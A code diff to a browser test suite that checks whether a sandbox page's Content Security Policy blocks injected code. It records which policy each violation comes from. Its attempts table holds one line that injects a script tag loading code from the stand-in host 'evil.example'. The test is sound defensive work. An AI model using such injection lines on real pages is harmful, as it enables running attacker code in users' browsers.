@@ -36,6 +36,8 @@ const ELSEWHERE: Readonly<Record<string, { readonly contentType: string; readonl
 };
 
 interface Violation {
+  /** The policy that was broken: this service's, or what Apollo Server writes into the page as well. */
+  readonly policy: string;
   readonly directive: string;
   readonly blocked: string;
 }
@@ -83,9 +85,16 @@ const openSandbox = async () => {
   );
   await context.addInitScript(() => {
     window.violations = [];
-    window.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
-      window.violations.push({ directive: effectiveDirective, blocked: blockedURI });
-    });
+    window.addEventListener(
+      'securitypolicyviolation',
+      ({ originalPolicy, effectiveDirective, blockedURI }) => {
+        window.violations.push({
+          policy: originalPolicy,
+          directive: effectiveDirective,
+          blocked: blockedURI,
+        });
+      },
+    );
   });
   const page = await context.newPage();
   await page.goto(service.url);
@@ -161,7 +170,7 @@ describe('the page of the Sandbox', () => {
 const EVIL = 'https://evil.example';
 
 /** Attempts of whoever got something into the page, as code to run there; and what the policy says of each. */
-const ATTEMPTS: readonly (readonly [what: string, code: string, violation: Violation])[] = [
+const ATTEMPTS: readonly (readonly [what: string, code: string, violation: Omit<Violation, 'policy'>])[] = [
   [
     'a script from another host',
     `const script = document.createElement('script'); script.src = '${EVIL}/x.js'; document.head.append(script)`,
@@ -214,11 +223,8 @@ describe('the policy of the page blocks', () => {
     const { page, asked, violations } = await openSandbox();
     await page.evaluate(code);
     await page.waitForFunction(() => window.violations.length > 0);
-    // The policy stands in a header, and a part of it in the page once more: one or two tell of it.
-    expect(new Set((await violations()).map(({ directive }) => directive))).toEqual(
-      new Set([violation.directive]),
-    );
-    expect(await violations()).toContainEqual(violation);
+    const told = (await violations()).filter(({ policy }) => policy.startsWith("default-src 'none'"));
+    expect(told).toEqual([expect.objectContaining(violation)]);
     expect(await page.evaluate(() => window.ran)).toBeUndefined();
     expect([...asked].filter((entry) => entry.startsWith(EVIL) || entry.endsWith(' fetch'))).toEqual([]);
   });
